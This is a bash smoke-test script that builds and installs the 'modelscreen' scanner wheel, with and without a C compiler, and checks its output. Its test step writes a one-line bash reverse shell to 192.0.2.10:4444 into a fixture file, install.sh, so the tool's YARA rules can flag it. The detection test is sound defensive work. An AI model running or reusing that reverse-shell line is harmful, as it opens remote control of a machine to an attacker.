#!/usr/bin/env bash
# The distribution as a user gets it: build the sdist and, from it, the wheel; install the wheel (not
# editable) into a fresh venv outside the source tree; smoke-test it there. Then the same without a C
# compiler (the pure-Python pickle walker). Exit 0 only if every check passes.
#
#   tests/packaging/wheel_smoke.sh            (PYTHON=python3.x to choose the interpreter)
set -euo pipefail
SRC="$(cd "$(dirname "$0")/../.." && pwd)"
PY="${PYTHON:-python3}"
WORK="$(mktemp -d)"
trap 'rm -rf "$WORK"' EXIT
say() { printf '[wheel-smoke] %s\n' "$*" >&2; }
fail() { say "FAILED: $*"; exit 1; }

say "building sdist and wheel (python -m build)"
"$PY" -m venv "$WORK/build-env"
"$WORK/build-env/bin/pip" install -q --upgrade pip build
"$WORK/build-env/bin/python" -m build --outdir "$WORK/dist" "$SRC" >"$WORK/build.log" 2>&1 \
  || { tail -40 "$WORK/build.log" >&2; fail "python -m build"; }
ls "$WORK/dist"/modelscreen-*.tar.gz >/dev/null || fail "no sdist"
WHEEL="$(ls "$WORK/dist"/modelscreen-*.whl)"

say "checking the wheel's contents"
"$PY" - "$WHEEL" <<'PYEOF' || fail "wheel contents"
import sys, zipfile
names = zipfile.ZipFile(sys.argv[1]).namelist()
tops = {n.split("/", 1)[0] for n in names if not n.split("/", 1)[0].endswith((".dist-info", ".data"))}
assert tops == {"modelscreen"}, f"top-level entries: {sorted(tops)}"
need = ["modelscreen/rules/yara/", "modelscreen/deploy/elasticsearch/index-template-findings.json",
        "modelscreen/deploy/kibana/saved-objects.ndjson", "modelscreen/schemas/json/scan-report.schema.json",
        "modelscreen/__main__.py"]
for n in need:
    assert any(x.startswith(n) for x in names), f"missing {n}"
assert sum(x.endswith(".yar") for x in names) >= 10, "rule library incomplete"
print(f"{len(names)} files, top level {sorted(tops)}")
PYEOF

say "installing the wheel into a fresh venv"
"$PY" -m venv "$WORK/venv"
"$WORK/venv/bin/pip" install -q --upgrade pip
"$WORK/venv/bin/pip" install -q "$WHEEL"

smoke() {  # $1: label
  local venv="$WORK/venv" run="$WORK/run"
  rm -rf "$run"; mkdir -p "$run"; cd "$run"
  env -u MODELSCREEN_RULES_DIR -u MODELSCREEN_TEMPLATES_DIR -u MODELSCREEN_KIBANA_ASSETS_DIR -u PYTHONPATH \
    "$venv/bin/python" - <<'PYEOF' || fail "$1: imports"
import importlib
for gone in ("workers", "schemas"):
    try:
        importlib.import_module(gone)
    except ImportError:
        pass
    else:
        raise SystemExit(f"import {gone} works: the distribution leaks a generic top-level package")
import modelscreen  # noqa: F401
PYEOF
  "$venv/bin/python" -m modelscreen --version >"$run/version.txt" || fail "$1: --version"
  grep -q "^ruleset [0-9a-f]\{16\} " "$run/version.txt" || fail "$1: --version shows no ruleset: $(cat "$run/version.txt")"
  # Only a YARA rule catches this file: a reverse shell in a plain script.
  printf 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n' >"$run/install.sh"
  set +e
  "$venv/bin/modelscreen" scan --format json "$run/install.sh" >"$run/report.json" 2>"$run/stderr.txt"
  local rc=$?
  set -e
  [[ $rc -eq 1 ]] || fail "$1: scan exit $rc (want 1: a high finding); stderr: $(cat "$run/stderr.txt")"
  "$venv/bin/python" - "$run/report.json" <<'PYEOF' || fail "$1: report"
import json, sys
doc = json.load(open(sys.argv[1]))
[art] = doc["artifacts"]
yara = [f for f in art["findings"] if (f.get("analyzer") or "").startswith("yara")]
assert yara and art["verdict"] == "malicious", art
assert not any(f["rule_id"] == "YARA-RULES-UNAVAILABLE" for f in art["findings"])
PYEOF
  say "$1: ok ($(head -1 "$run/version.txt"); $(sed -n 2p "$run/version.txt" | cut -c1-40)...)"
}

smoke "wheel with the C fast path"
"$WORK/venv/bin/python" -c "import modelscreen.engine.pickle._fastwalk" || fail "the C fast path was not built"

say "building a wheel without a C compiler"
rm -rf "$WORK/dist-pure"
CC=/bin/false "$WORK/build-env/bin/pip" wheel -q --no-deps -w "$WORK/dist-pure" "$SRC" >"$WORK/pure.log" 2>&1 \
  || { tail -20 "$WORK/pure.log" >&2; fail "wheel without a compiler"; }
"$WORK/venv/bin/pip" install -q --no-deps --force-reinstall "$WORK/dist-pure"/modelscreen-*.whl
if "$WORK/venv/bin/python" -c "import modelscreen.engine.pickle._fastwalk" 2>/dev/null; then
  fail "the pure wheel has a C extension"
fi
smoke "wheel without a C compiler (pure-Python walker)"
say "all checks passed"
